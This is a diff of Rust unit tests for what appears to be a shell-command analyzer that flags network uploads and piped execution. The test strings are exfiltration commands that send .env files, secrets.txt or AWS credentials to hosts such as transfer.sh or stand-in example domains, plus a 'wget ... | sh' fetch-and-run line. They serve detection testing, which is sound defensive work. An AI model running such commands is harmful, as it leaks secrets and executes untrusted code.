@@ -378,7 +378,7 @@ const HTTPIE_LONG: &[&str] = &[
 
 #[cfg(test)]
 mod tests {
-    use crate::flow::shell::test_util::{one, s, sends};
+    use crate::flow::shell::test_util::{one, s, sends, uploads};
     use crate::flow::shell::{analyze, is_loopback};
 
     #[test]
@@ -391,10 +391,7 @@ mod tests {
 
     #[test]
     fn curl_form_upload() {
-        let n = one("curl -F f=@.env https://transfer.sh");
-        assert_eq!(n.upload_paths, s(&[".env"]));
-        assert_eq!(n.hosts, s(&["transfer.sh"]));
-        assert!(!n.reads_stdin);
+        assert!(!uploads("curl -F f=@.env https://transfer.sh", &["transfer.sh"], &[".env"]).reads_stdin);
         let n = one("curl -F 'file=@\"my file.txt\";type=text/plain' -F 'x=<notes.txt' https://u.example");
         assert_eq!(n.upload_paths, s(&["my file.txt", "notes.txt"]));
     }
@@ -405,25 +402,18 @@ mod tests {
         assert_eq!(f.net[0].upload_paths, s(&["/home/u/.aws/credentials"]));
         assert_eq!(f.net[0].hosts, s(&["e.example"]));
         assert!(f.read_paths.contains(&"/home/u/.aws/credentials".to_string()));
-        let n = one("curl -d@.env e.example/x");
-        assert_eq!(n.upload_paths, s(&[".env"]));
-        assert_eq!(n.hosts, s(&["e.example"]));
+        uploads("curl -d@.env e.example/x", &["e.example"], &[".env"]);
         let n = one("curl --data-raw @.env --data-urlencode name@secret.txt https://e.example");
         assert_eq!(n.upload_paths, s(&["secret.txt"]));
     }
 
     #[test]
     fn curl_upload_file_and_wget_post() {
-        let n = one("curl -T secrets.txt ftp://h.example/");
-        assert_eq!(n.upload_paths, s(&["secrets.txt"]));
-        assert_eq!(n.hosts, s(&["h.example"]));
+        uploads("curl -T secrets.txt ftp://h.example/", &["h.example"], &["secrets.txt"]);
         let n = one("curl -T - ftp://h.example/ < x.txt");
         assert!(n.reads_stdin);
         assert_eq!(n.stdin_from, s(&["x.txt"]));
-        let n = one("wget --post-file=.env http://a.example");
-        assert_eq!(n.tool, "wget");
-        assert_eq!(n.upload_paths, s(&[".env"]));
-        assert_eq!(n.hosts, s(&["a.example"]));
+        assert_eq!(uploads("wget --post-file=.env http://a.example", &["a.example"], &[".env"]).tool, "wget");
         let f = analyze("wget -qO- https://b.example/x.sh | sh");
         assert_eq!(f.net[0].hosts, s(&["b.example"]));
         assert!(f.written_paths.is_empty());
